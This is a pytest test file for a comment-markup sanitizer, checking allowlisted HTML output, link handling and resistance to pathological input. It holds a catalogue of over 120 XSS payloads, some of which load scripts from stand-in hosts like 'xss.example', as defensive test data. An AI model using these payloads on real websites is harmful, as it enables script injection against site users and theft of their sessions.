"""Tests for comments.markup: what readers see, what attackers cannot do, and that it never hangs.

Every XSS vector is rendered and the output is parsed again the way a browser
would (html5lib, the spec parser bleach itself vendors) and by the standard
library's ``html.parser``; both parses must show only allowlisted elements,
``href``/``rel`` on links alone, and hrefs that are absolute http(s) or mailto.
"""

from __future__ import annotations

import html as html_lib
import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

# bleach vendors html5lib instead of depending on it; use that copy so the
# check parses exactly as the sanitizer (and a browser) does.
from bleach._vendor import html5lib

from comments import errors, markup

# Spelled out again (not markup.ALLOWED_TAGS) so that widening the module's list fails here.
ALLOWED = set("p br em strong del s code pre blockquote ul ol li a".split())
REL = "nofollow ugc noopener noreferrer"
XHTML = "{http://www.w3.org/1999/xhtml}"
HANG_GUARD_SECONDS = 10.0
# What a browser's URL parser drops before it reads a scheme, plus invisible
# characters an attacker might count on some other layer dropping.
INVISIBLE = re.compile("[\x00-\x20\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2064\ufeff]")
SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


# --- the checker ---------------------------------------------------------------------------


def normalised_href(href: str) -> str:
    """Return *href* as a browser sees it when deciding its scheme, made even stricter."""
    previous = None
    while previous != href:  # decode entities until stable: double encoding is no way out
        previous, href = href, html_lib.unescape(href)
    return INVISIBLE.sub("", href).casefold()


def check_href(href: str) -> None:
    clean = normalised_href(href)
    match = SCHEME.match(clean)
    assert match, f"relative or scheme-less href kept: {href!r}"
    assert match.group(1) in {"http", "https", "mailto"}, f"bad scheme in {href!r}"
    if match.group(1) != "mailto":
        assert urlsplit(href).netloc, f"http(s) link without a host: {href!r}"
    for bad in ("javascript:", "vbscript:", "data:", "livescript:"):
        assert bad not in clean, f"{bad} inside href {href!r}"


def check_element(tag: str, attrs: dict[str, str]) -> None:
    assert tag in ALLOWED, f"element <{tag}> not in the allowlist"
    if tag == "a":
        assert set(attrs) <= {"href", "rel"}, f"<a> attributes {sorted(attrs)}"
        assert attrs.get("rel") == REL
        assert "href" in attrs
        check_href(attrs["href"])
    else:
        assert not attrs, f"<{tag}> carries attributes {attrs}"


class _StdlibCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.odd.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.odd.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.odd.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.odd.append(f"declaration {data!r}")


def html5lib_elements(output: str) -> list[tuple[str, dict[str, str]]]:
    root = html5lib.parseFragment(output, treebuilder="etree")
    elements = []
    for node in root.iter():
        if node is root:
            continue
        assert isinstance(node.tag, str), f"comment or processing instruction in {output!r}"
        assert node.tag.startswith(XHTML), f"foreign (svg/math) element {node.tag}"
        elements.append((node.tag.removeprefix(XHTML), {str(k): v for k, v in node.attrib.items()}))
    return elements


def stdlib_elements(output: str) -> list[tuple[str, dict[str, str]]]:
    collector = _StdlibCollector()
    collector.feed(output)
    collector.close()
    assert not collector.odd, collector.odd
    return collector.elements


def assert_safe(output: str) -> None:
    """Fail unless *output* holds only allowlisted markup, parsed two different ways."""
    browser_view = html5lib_elements(output)
    for tag, attrs in browser_view:
        check_element(tag, attrs)
    # A different tree from a second parser is how mutation XSS starts.
    assert stdlib_elements(output) == browser_view


def render_guarded(source: str) -> str | None:
    """Render *source*, failing if it takes longer than the hang guard; None when refused."""
    # CPU time, not wall time: a busy machine must not fail this, a slow render must.
    start = time.process_time()
    try:
        return markup.render(source)
    except errors.MarkupRefused:
        return None
    finally:
        elapsed = time.process_time() - start
        assert elapsed < HANG_GUARD_SECONDS, f"render took {elapsed:.1f} s of CPU time"


# --- the checker catches what it must ------------------------------------------------------


@pytest.mark.parametrize(
    "bad_html",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        '<a href="javascript:alert(1)" rel="nofollow ugc noopener noreferrer">x</a>',
        '<a href=" jav&#x09;ascript:alert(1)" rel="nofollow ugc noopener noreferrer">x</a>',
        '<a href="JaVa&#115;cript&colon;alert(1)" rel="nofollow ugc noopener noreferrer">x</a>',
        '<a href="/relative" rel="nofollow ugc noopener noreferrer">x</a>',
        '<a href="https://ok.example" rel="nofollow ugc noopener noreferrer" onclick="x">x</a>',
        '<a href="https://ok.example">x</a>',
        '<p style="color:red">x</p>',
        '<svg><a href="https://ok.example" rel="nofollow ugc noopener noreferrer">x</a></svg>',
        "<p>x<!-- comment --></p>",
        "<h1>x</h1>",
    ],
)
def test_checker_rejects_unsafe_html(bad_html: str) -> None:
    with pytest.raises(AssertionError):
        assert_safe(bad_html)


def test_checker_accepts_what_render_is_meant_to_produce() -> None:
    assert_safe(
        '<p><em>a</em> <a href="https://ok.example/x?y=1" rel="nofollow ugc noopener noreferrer">'
        'b</a> <a href="mailto:a@b.example" rel="nofollow ugc noopener noreferrer">c</a></p>'
    )


# --- XSS vectors ---------------------------------------------------------------------------

SVG_B64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>
SCRIPT_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
ENTITY_JS = "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')")
HEX_JS = "".join(f"&#x{ord(c):X}" for c in "javascript:alert('XSS')")
PADDED_JS = "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')")

MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106;avascript:alert(1))",
    "[x](&#0000106avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](javascript&colon;alert&lpar;1&rpar;)",
    "[x](<java\tscript:alert(1)>)",
    "[x](<java\nscript:alert(1)>)",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav&#x0A;ascript:alert(1))",
    "[x](jav&#x0D;ascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#x20;javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\x00javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](java\u200dscript:alert(1))",
    "[x](\u202ejavascript:alert(1))",
    "[x](javascript\uff1aalert(1))",
    "[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](java%09script:alert(1))",
    "[x](javascript://%0Aalert(1))",
    "[x](javascript://example.com/%0aalert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    f"[x](data:text/html;base64,{SCRIPT_B64})",
    "[x](data:text/html,<script>alert(1)</script>)",
    f"[x](data:image/svg+xml;base64,{SVG_B64})",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](mocha:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](jar:http://evil.example/x.jar!/)",
    "[x](https:javascript:alert(1))",
    "[x](//evil.example/x)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/relative/path)",
    "[x](#fragment)",
    "![x](javascript:alert(1))",
    "![x](JaVaScRiPt:alert(1))",
    f"![x](data:image/png;base64,{SVG_B64})",
    f"![x](data:image/svg+xml;base64,{SVG_B64})",
    '![x" onerror="alert(1)](https://ok.example/a.png)',
    '![x](https://ok.example/a.png "t\\" onerror=\\"alert(1)")',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[![x](https://ok.example/a.png)](javascript:alert(2))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    f"<data:text/html;base64,{SCRIPT_B64}>",
    '<http://a.example/"onmouseover="alert(1)>',
    "<http://a.example/<img src=x onerror=alert(1)>>",
    '<a@b.example"onmouseover="alert(1)>',
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: <javascript:alert(1)> "t"',
    "[r]\n\n[r]: JaVaScRiPt:alert(1)",
    "[x][r]\n\n[r]: &#106;avascript:alert(1)",
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "[x](https://ok.example 'a' onmouseover='alert(1)')",
    '[x](https://ok.example"onmouseover="alert(1))',
    '[x](https://ok.example/"><script>alert(1)</script>)',
    '[x][1]\n\n[1]: https://ok.example "a\\" onclick=\\"alert(1)"',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x](https://ok.example)<img src=x onerror=alert(1)>",
    'www.example.com/"onmouseover="alert(1)',
    "https://example.com/<script>alert(1)</script>",
    'https://example.com/?"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "```js onload=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "*<script>alert(1)</script>*",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>\n===",
    "    <script>alert(1)</script>",
    "~~<script>alert(1)</script>~~",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]

HTML_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    f'<img src=x onerror="{PADDED_JS}">',
    f"<IMG SRC={ENTITY_JS}>",
    f"<IMG SRC={HEX_JS}>",
    f"<a href={PADDED_JS}>x</a>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=https://xss.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<link rel=import href="https://evil.example/x.html">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<p style="width: expression(alert(1))">x</p>',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0027\\0029'\\0029\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{SCRIPT_B64}">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<base href="https://evil.example/">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)">',
    f'<object data="data:text/html;base64,{SCRIPT_B64}"></object>',
    f'<EMBED SRC="data:image/svg+xml;base64,{SVG_B64}" type="image/svg+xml">',
    '<embed src="javascript:alert(1)">',
    '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>',
    "<A HREF=\"javascript:document.location='https://evil.example/'\">XSS</A>",
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="jav&#x61;script&colon;alert(1)">x</a>',
    '<a href="javascript&#0058;alert(1)">x</a>',
    "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    '<a/href="javascript:alert(1)">x</a>',
    '<a href="javascript://example.com/%0Aalert(1)">x</a>',
    '<a href="javascript://%0Aalert(1)">x</a>',
    '<a href="`javascript:alert(1)`">x</a>',
    f'<a href="data:text/html;base64,{SCRIPT_B64}">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" target="_blank" style="x" class="y">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<form id="t"></form><button form="t" formaction="javascript:alert(1)">X</button>',
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img[a][b]src=x[d]onerror[e]=alert(1)>",
    '<img src="x:gif" onerror="window[\'al\\u0065rt\'](0)"></img>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math href="javascript:javascript:alert(1)">CLICKME</math>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) />"
    "<a id=x><text>X</text></a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/>',
    '<svg><image href="javascript:alert(1)"></svg>',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<style><p title="</style><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    '<div onmouseover="alert(1)">x</div>',
    "<p onclick=alert(1)>x</p>",
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<a href="https://ok.example" rel="opener">x</a>',
    '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8',
]

XSS_VECTORS = MARKDOWN_VECTORS + HTML_VECTORS


def test_there_are_enough_distinct_xss_vectors() -> None:
    assert len(set(XSS_VECTORS)) == len(XSS_VECTORS)
    assert len(XSS_VECTORS) >= 120


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_renders_to_allowlisted_markup(vector: str) -> None:
    assert_safe(markup.render(vector))


@pytest.mark.parametrize("vector", HTML_VECTORS)
def test_xss_vector_inside_markdown_contexts_renders_safe(vector: str) -> None:
    for wrapped in (f"> {vector}", f"- {vector}", f"*{vector}*", f"[{vector}](https://ok.example)"):
        assert_safe(markup.render(wrapped))


@pytest.mark.parametrize("vector", HTML_VECTORS)
def test_sanitizer_alone_stops_raw_html_vectors(vector: str) -> None:
    # markdown-it escapes raw HTML, so render() never hands these to bleach;
    # this proves the second layer holds should the first one ever give way.
    assert_safe(markup._sanitize(vector))


@pytest.mark.parametrize("vector", HTML_VECTORS)
def test_raw_html_is_shown_as_text(vector: str) -> None:
    assert markup.plain_text(markup.render(vector)).startswith("<")


# --- what a reader sees --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("*hi*", "<p><em>hi</em></p>"),
        ("_hi_", "<p><em>hi</em></p>"),
        ("**hi**", "<p><strong>hi</strong></p>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("```\nif a < b:\n    pass\n```", "<pre><code>if a &lt; b:\n    pass\n</code></pre>"),
        ("```python\nx = 1\n```", "<pre><code>x = 1\n</code></pre>"),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>"),
        ("line one\nline two", "<p>line one<br>\nline two</p>"),
        ("para one\n\npara two", "<p>para one</p>\n<p>para two</p>"),
        ("<b>hi</b>", "<p>&lt;b&gt;hi&lt;/b&gt;</p>"),
        ("a & b", "<p>a &amp; b</p>"),
        ("# Title", "<p><strong>Title</strong></p>"),
        ("Title\n=====", "<p><strong>Title</strong></p>"),
        ("---", "<p>---</p>"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "<p>| a | b |<br>\n|---|---|<br>\n| 1 | 2 |</p>"),
        ("", ""),
        ("   \n\n  ", ""),
    ],
)
def test_markdown_renders_what_a_reader_expects(source: str, expected: str) -> None:
    assert markup.render(source) == expected


def test_link_gets_exact_rel_and_no_target_or_title() -> None:
    html = markup.render('[news](https://example.com/a?b=1&c=2 "a title")')
    assert html == (
        '<p><a href="https://example.com/a?b=1&amp;c=2" rel="nofollow ugc noopener noreferrer">'
        "news</a></p>"
    )


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("see https://example.com/x.", "https://example.com/x"),
        ("see http://example.com/path_(x)", "http://example.com/path_(x)"),
        ("see www.example.com today", "http://www.example.com"),
        ("<https://example.com/auto>", "https://example.com/auto"),
        ("<someone@example.com>", "mailto:someone@example.com"),
        ("[write](mailto:someone@example.com)", "mailto:someone@example.com"),
    ],
)
def test_links_and_bare_urls_become_links(source: str, href: str) -> None:
    html = markup.render(source)
    assert f'<a href="{href}" rel="{REL}">' in html
    assert markup.count_links(html) == 1
    assert_safe(html)


@pytest.mark.parametrize(
    "source",
    [
        "`https://example.com`",
        "```\nhttps://example.com\nwww.example.com\n```",
        "    https://example.com",
        "read README.md and example.com",
        "mail someone@example.com",
        "javascript:alert(1)",
    ],
)
def test_text_that_is_not_linkified(source: str) -> None:
    assert markup.count_links(markup.render(source)) == 0


@pytest.mark.parametrize(
    "source", ["[x](/relative)", "[x](//evil.example)", "[x](#top)", "[x](ftp://example.com)"]
)
def test_relative_and_other_scheme_links_keep_only_their_text(source: str) -> None:
    assert markup.render(source) == "<p>x</p>"


def test_image_becomes_a_link_to_the_image_not_an_img() -> None:
    html = markup.render("![a cat](https://example.com/cat.png)")
    assert html == f'<p><a href="https://example.com/cat.png" rel="{REL}">a cat</a></p>'
    untitled = markup.render("![](https://example.com/cat.png)")
    assert markup.plain_text(untitled) == "https://example.com/cat.png"


def test_image_inside_a_link_keeps_its_words_without_nesting_links() -> None:
    html = markup.render("[![a cat](https://example.com/cat.png)](https://example.com/)")
    assert html == f'<p><a href="https://example.com/" rel="{REL}">a cat</a></p>'


def test_no_heading_or_image_or_table_tags_are_emitted() -> None:
    html = markup.render("# a\n\n## b\n\n![c](https://x.example/c.png)\n\n| d |\n|---|\n| e |")
    assert not re.search(r"<(h\d|img|table|hr)\b", html)


def test_count_links() -> None:
    html = markup.render(
        "[a](https://a.example) https://b.example <c@d.example> `https://e.example`"
    )
    assert markup.count_links(html) == 3
    assert markup.count_links(markup.render("no links <a href='x'>")) == 0


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("*hello* **there**", "hello there"),
        ("a\nb", "a\nb"),
        ("<b>x</b> &amp; y", "<b>x</b> & y"),
        ("> q\n\n- one\n- two", "q\none\ntwo"),
        ("[](https://example.com)", ""),
        ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
        ("&nbsp;", ""),
    ],
)
def test_plain_text_is_what_a_reader_sees(source: str, text: str) -> None:
    assert markup.plain_text(markup.render(source)).strip() == text


def test_link_references_do_not_carry_over_to_the_next_comment() -> None:
    defined = markup.render("[see][r]\n\n[r]: https://r.example/")
    assert defined == f'<p><a href="https://r.example/" rel="{REL}">see</a></p>'
    assert markup.render("[see][r]") == "<p>[see][r]</p>"


# What each POLICY_VERSION lets through. Stored comments keep the version they
# were rendered under, so a change here needs a new version (and a new row)
# for `comments rerender` to rebuild them.
POLICIES = {
    1: {
        "tags": ALLOWED,
        "attributes": {"a": ["href", "rel"]},
        "protocols": {"http", "https", "mailto"},
        "rel": REL,
    },
}


def test_policy_version_names_the_allowlist_in_force() -> None:
    assert POLICIES[markup.POLICY_VERSION] == {
        "tags": set(markup.ALLOWED_TAGS),
        "attributes": markup.ALLOWED_ATTRIBUTES,
        "protocols": set(markup.ALLOWED_PROTOCOLS),
        "rel": markup.LINK_REL,
    }


# --- size limits and pathological input ----------------------------------------------------


def test_source_at_the_limit_renders_and_past_it_is_refused() -> None:
    longest = "a" * markup.MAX_SOURCE_LENGTH
    assert markup.render(longest) == f"<p>{longest}</p>"
    with pytest.raises(errors.MarkupRefused) as refused:
        markup.render("a" * (markup.MAX_SOURCE_LENGTH + 1))
    assert isinstance(refused.value, errors.ValidationFailed)
    assert refused.value.errors == {"body": "too long"}


def test_quotes_nested_deeper_than_the_limit_are_refused_not_dropped() -> None:
    assert "deep" in markup.render("> " * 15 + "deep")
    with pytest.raises(errors.MarkupRefused):
        markup.render("> " * 30 + "deep")


def test_a_long_ordinary_comment_renders() -> None:
    paragraph = "Some words with *emphasis* and a link https://example.com/page in them. " * 5
    source = ((paragraph + "\n") * 3 + "\n") * 90
    assert len(source) > 90_000
    html = render_guarded(source[: markup.MAX_SOURCE_LENGTH])
    assert html is not None
    assert markup.count_links(html) > 1000


PATHOLOGICAL = {
    "nested quotes": ">" * 50_000,
    "nested quotes spaced": "> " * 50_000,
    "open brackets": "[" * 50_000,
    "bracket pairs": "[]" * 50_000,
    "link openers": "[x](" * 25_000,
    "divs": "<div>" * 20_000,
    "nested lists": "- " * 50_000,
    "nested ordered lists": "1. " * 33_000,
    "quote list mix": "> - " * 25_000,
    "emphasis wall": "*" * 20_000 + "a" + "*" * 20_000,
    "emphasis runs": "*a " * 33_000,
    "strong runs": "**a" * 33_000,
    "mixed delimiters": "*_" * 50_000,
    "strike runs": "~~a" * 33_000,
    "underscores": "_a" * 50_000,
    "two star lines": "*" * 50_000 + "\n" + "*" * 49_000,
    "backticks": "`" * 100_000,
    "backtick runs": "`a``" * 25_000,
    "nested links": "[" * 10_000 + "x" + "](https://a.example)" * 4_000,
    "nested link labels": "[a" * 20_000 + "](b)" * 20_000,
    "images": "![a](https://x.example/a.png)" * 3_000,
    "images in links": "[![a](b)](c)" * 8_000,
    "pipe table": ("|" * 99 + "\n") * 1_000,
    "gfm table": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 9_000,
    "bare urls": "https://a.example/ " * 5_000,
    "www urls": "www.a.example " * 7_000,
    "dots": "a." * 50_000,
    "url of dots": "http://" + "a." * 49_000,
    "long url": "https://a.example/" + "a" * 99_000,
    "url then parens": "https://a.example/" + "(" * 50_000,
    "newlines": "a\n" * 50_000,
    "blank lines": "\n" * 100_000,
    "entities": "&amp;" * 20_000,
    "numeric entities": "&#106;" * 16_000,
    "less-than signs": "<" * 100_000,
    "autolinks": "<https://a.example>" * 5_000,
    "reference definitions": "".join(f"[r{i}]: https://a.example/{i}\n" for i in range(2_000))
    + "".join(f"[r{i}] " for i in range(2_000)),
    "emphasis nest": "*a **b " * 14_000,
    "html comments": "<!--" * 25_000,
    "code fences": "```\n" * 25_000,
    "indented code": "    <script>\n" * 8_000,
    "headings": "# a\n" * 25_000,
    "setext headings": "a\n=\n" * 25_000,
    "spaces": " " * 100_000,
    "tabs": "\t" * 100_000,
    "backslashes": "\\" * 100_000,
    "link titles": '[a](https://a.example "' * 4_000,
    "unclosed destinations": "[a](<" * 20_000,
    "zero width": "\u200b" * 100_000,
    "astral characters": "\U0001f600" * 100_000,
    "nul characters": "\x00" * 100_000,
    "every delimiter": "[*`<>~_!" * 12_500,
    "dense code in emphasis": "*`a`* " * 16_000,
}


@pytest.mark.parametrize("source", list(PATHOLOGICAL.values()), ids=list(PATHOLOGICAL))
def test_pathological_input_renders_or_is_refused_quickly(source: str) -> None:
    source = source[: markup.MAX_SOURCE_LENGTH]
    html = render_guarded(source)
    if html is not None:
        assert_safe(html)
